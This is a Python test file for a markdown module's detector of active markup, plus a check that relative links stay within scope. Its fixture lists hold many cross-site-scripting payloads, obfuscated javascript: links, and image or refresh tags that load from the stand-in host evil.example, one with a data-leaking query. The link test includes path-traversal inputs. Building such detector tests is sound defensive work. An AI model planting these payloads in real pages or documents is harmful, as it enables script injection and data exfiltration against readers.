"""Active markup: what a reader of markdown would run or load, and what is only written about."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from muniment.content.markdown import active_markup, relative_links, without_code
from muniment.kernel.names import RelPath

ACTIVE = [
    *("<script>alert(1)</script>", "<script\n>alert(1)</script>", '<iframe src="a.html">'),
    *("<style>@import 'a'</style>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>"),
    *('<a title=">" onclick=x>b</a>', '<div b=c"d title=">" onclick=x>', "<b\nonmouseover\n=x>"),
    *("<xyz onfocus=x tabindex=1>", '<object data="a.swf">', "<form action=a.php>"),
    *('<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">'),
    *("<link rel=stylesheet href=a.css>", '<video autoplay src="a.mp4">'),
    *('<img src="https://evil.example/a.png">', "<IMG SRC=HTTP://EVIL.EXAMPLE/A.PNG>"),
    *("<img src=//evil.example/a.png>", '<img srcset="a.png, https://evil.example/b.png 2x">'),
    '<svg><image href="https://evil.example/a.png"/></svg>',
    '<svg><use xlink:href="https://evil.example/a.svg#x"/></svg>',
    *('<p style="background:url(//evil.example/a)">', r'<p style="background:\75rl(//evil.example/a)">'),
    *('<a href="javascript:alert(1)">b</a>', '<a href=" &#x6a;avascript&colon;alert(1)">b</a>'),
    *('<a href="java\nscript:alert(1)">b</a>', "![](https://evil.example/?q=data)"),
    *("![a](<https://evil.example/a.png>)", "![a](//evil.example/a.png)", r"![a](\\evil.example\a.png)"),
    *("![a [b] c](https://evil.example/a.png)", "![`]`](https://evil.example/a.png)"),
    *(r"![a \] b](https\://evil.example/a.png)", "![a\nb](\nhttps://evil.example/a.png)"),
    *("![a [b](c) d](https://evil.example/a.png)", "[![build](https://evil.example/a.svg)](docs/ci.md)"),
    *("![a](data:image/png;base64,AAAA)", "![a][b]\n\n[b]: https://evil.example/a.png"),
    *("![a]\n\n[a]: https://evil.example/a.png", "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))"),
    *("[a](&#106;avascript&#58;alert(1))", "[a]( <javascript:alert(1)>)", r"[a](javascript\:alert(1))"),
    *("[a]\n\n[a]: vbscript:x", "<javascript:alert(1)>", "[a](data:text/html;base64,AAAA)"),
    *("<!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]>", "```dataviewjs\ndv.view('a')\n```"),
    '```mermaid\na["<img src=x onerror=alert(1)>"]\n```',
]

SHOWN = "<script>alert(1)</script>"
NO_CODE = [
    *(f"```\n{SHOWN}", f"```\n{SHOWN}\n~~~", f"````\n{SHOWN}\n```", f"> ```\n{SHOWN}\n> ```"),
    *(f"- a\n  ```\n{SHOWN}\n  ```", f"    ```\n{SHOWN}\n    ```", f"``` a`b\n{SHOWN}\n```"),
    *(f"<div>\n```\n{SHOWN}\n```\n</div>", f"<!--\n```\n-->\n{SHOWN}\n```", f"```\na\n ```b\n{SHOWN}\n```"),
    *(f"---\nname: |\n  a\n```\n---\n{SHOWN}\n```\n", f"---\n```\n{'a: b' * 3000}\n---\n{SHOWN}\n```\n"),
    *(f"\\`{SHOWN}`", f"`a\n` {SHOWN} `", f"`` {SHOWN} `", f'<a title="`">{SHOWN}`'),
    *(f'<a title="\n`">{SHOWN}`', f"| a | b |\n|---|---|\n| ` | {SHOWN} ` |\n| ` {SHOWN} | ` |"),
    f"    {SHOWN}",
]

INERT = [
    *("if a < b and c > d, then on = 1", "List<T>, Map<String, Object> and Result<T, E> are returned"),
    "git clone <source> <target> && cd <name>",
    "<b>bold</b><br><details><summary>more</summary>a</details><kbd>Esc</kbd>",
    "[a](https://example.com/?q=1) <https://example.com> https://example.com",
    *('<a href="https://example.com">a</a>', "[a][b] and [b]\n\n[b]: https://example.com"),
    *("<me@example.com>", "![diagram](img/a.png)", '<img src="img/a.png" alt="a" width=10>'),
    *("![a](a.png) and [b](https://example.com)", "![a][b]\n\n[b]: img/a.png"),
    *("Done! [a](https://example.com)", f"`{SHOWN}` is refused", f"`` ` {SHOWN} `` is refused"),
    f"`{SHOWN}` and `<img src=x onerror=alert(1)>` and `![](https://evil.example)`",
    *(f"```html\n{SHOWN}\n```\nand text", f"~~~\n{SHOWN}\n~~~", f"```\n\n{SHOWN}\n\n```"),
    *(f"```\n{SHOWN}\n```\n\ntext\n\n````md\n{SHOWN}\n````", f"---\nname: a\n---\n```\n{SHOWN}\n```\n"),
    *("javascript: addresses are refused; data: see below; file: a.md", "<!-- toc -->"),
    *("a --> b <-- c <- d", "for (i=0;i<n;i++) once = 3;", "1 << 3 and a <<= 2"),
]


@pytest.mark.threat("T-MEM-02", control="active_markup")
def test_markup_that_runs_or_loads_is_found_and_so_is_what_some_reader_takes_for_no_code():
    for text in ACTIVE:
        line = active_markup(text)
        assert line is not None, text
        assert active_markup(f"first line\n\n{text}\n") == line + 2, text
    assert [text for text in NO_CODE if active_markup(text) is None] == []


def test_what_neither_runs_nor_loads_passes():
    for text in INERT:
        assert active_markup(text) is None, text
        assert active_markup(f"text\n\n{text}\n\ntext `a` b\n") is None, text


PIECES = """```/|````/|~~~/|`|``|/|//|> |- |    |  |PIPE |\\|a| |<b>|<a title="|">|<div>/|<BACKdiv>/|<!--|-->|
PIPE---PIPE/|1. |```md/|\r/|*|[x|](y)"""
PIECES = PIECES.replace("|\n", "|").replace("/", "\n").replace("BACK", "/").split("|")
PIECES = [each.replace("PIPE", "|") for each in PIECES]


@given(st.lists(st.sampled_from(PIECES), max_size=14), st.lists(st.sampled_from(PIECES), max_size=10))
def test_a_script_that_another_reader_lets_through_is_found(before, after):
    text = f"{''.join(before)}{SHOWN}{''.join(after)}"
    for reader in (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table")):
        if "<script>" in reader.render(text):
            assert active_markup(text) is not None


@given(st.text(st.sampled_from("`~<>!\\|[]() \n\ta"), max_size=60))
def test_lines_keep_their_numbers_when_code_is_blanked(text):
    assert without_code(text).count("\n") == text.count("\n")


# -- relative links: which paths they mean --

MEANT = """[a](a.md) > topic/a.md ; ![a](img/a.png) > topic/img/a.png ; [a](../other/b.md#part) > other/b.md
[a](./b%20c.md?x=1) > topic/b c.md ; [a](<b.md>) [b](b.md 'title') > topic/b.md, topic/b.md
[a](../../secret.md) >  ; [a](/etc/passwd) [b](https://example.com/a.md) [c](mailto:a@b) [d](#part) [e](..) >
```NL[a](a.md)NL```NL    [b](b.md)NL >  ; - [a](a.md)NLNL      [code](b.md)NL > topic/a.md ; [a]() >"""


def test_a_link_means_a_path_inside_the_scope_or_nothing():
    for row in MEANT.replace("\n", " ; ").split(" ; "):
        body, meant = row.replace("NL", "\n").split(" >")
        assert ", ".join(relative_links(body, RelPath("topic/entry.md"))) == meant.strip(), row
    assert list(relative_links("[a](b/c.md) [d](../e.md)", RelPath("entry.md"))) == ["b/c.md"]
